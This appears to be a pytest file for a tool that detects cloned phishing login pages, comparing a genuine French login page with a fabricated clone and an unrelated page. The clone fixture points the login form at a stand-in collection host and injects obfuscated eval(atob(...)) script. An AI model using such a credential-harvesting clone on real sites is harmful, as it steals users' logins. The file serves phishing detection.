"""Cloned login page detection on pages built by the test."""

from __future__ import annotations

from pathlib import Path

from contrefeu.domains.clone import compare_paths

GENUINE = """<!doctype html><html><head><title>Avenir Commun - Connexion</title>
<link rel="stylesheet" href="/static/css/login-7f3a.css"><script src="/static/js/app-91c2.js"></script>
</head><body><div class="wrap"><img src="/static/img/logo-avenir.svg" alt="Avenir Commun">
<h1>Connexion a votre espace militant</h1><p>Saisissez votre adresse et votre mot de passe.</p>
<form action="https://auth.avenir-commun.fr/login" method="post">
<label>Adresse</label><input type="email" name="user"><label>Mot de passe</label>
<input type="password" name="pass"><button type="submit">Se connecter</button></form>
<footer><a href="/aide">Aide</a> <a href="/confidentialite">Confidentialite</a>
Avenir Commun, 12 rue de la Paix, Paris. Tous droits reserves.</footer></div></body></html>
"""

CLONE = GENUINE.replace(
    "https://auth.avenir-commun.fr/login", "https://collect.evil-host.example/gate.php"
).replace("</body>", "<script>eval(atob('YWxlcnQoMSk='))</script></body>")

OTHER = """<html><head><title>Recettes</title></head><body><h2>Tarte aux pommes</h2>
<ul><li>4 pommes</li><li>200 g de farine</li><li>100 g de beurre</li></ul>
<p>Prechauffez le four a 180 degres. Etalez la pate, disposez les pommes en rosace.</p>
<table><tr><td>Temps</td><td>45 min</td></tr></table></body></html>
"""


def _write(tmp_path: Path, name: str, html: str) -> Path:
    path = tmp_path / name
    path.write_text(html, encoding="utf-8")
    return path


def test_clone_is_detected_with_reasons(tmp_path):
    report = compare_paths(_write(tmp_path, "s.html", CLONE), _write(tmp_path, "g.html", GENUINE))
    assert report.verdict == "clone"
    assert report.likelihood > 0.8
    codes = {f.code for f in report.findings}
    assert {"credential-form-foreign", "obfuscated-javascript", "shared-resources"} <= codes
    assert report.components["dom"] > 0.9


def test_unrelated_page_is_different(tmp_path):
    report = compare_paths(_write(tmp_path, "o.html", OTHER), _write(tmp_path, "g.html", GENUINE))
    assert report.verdict == "different"
    assert report.likelihood < 0.35
    assert "credential-form-foreign" not in {f.code for f in report.findings}


def test_browser_saved_folder(tmp_path):
    folder = tmp_path / "saved"
    (folder / "page_files").mkdir(parents=True)
    (folder / "page.html").write_text(CLONE, encoding="utf-8")
    for name in ("login-7f3a.css", "app-91c2.js", "logo-avenir.svg"):
        (folder / "page_files" / name).write_text("x")
    report = compare_paths(folder, _write(tmp_path, "g.html", GENUINE))
    assert report.verdict == "clone"
    assert report.components["resources"] == 1.0


def test_unreadable_and_junk_pages_become_findings(tmp_path):
    junk = tmp_path / "junk.html"
    junk.write_bytes(b"\x00\xff<html><<<>>>\x89PNG")
    report = compare_paths(tmp_path / "missing.html", junk)
    assert report.verdict == "different"
    assert "page-unreadable" in {f.code for f in report.findings}
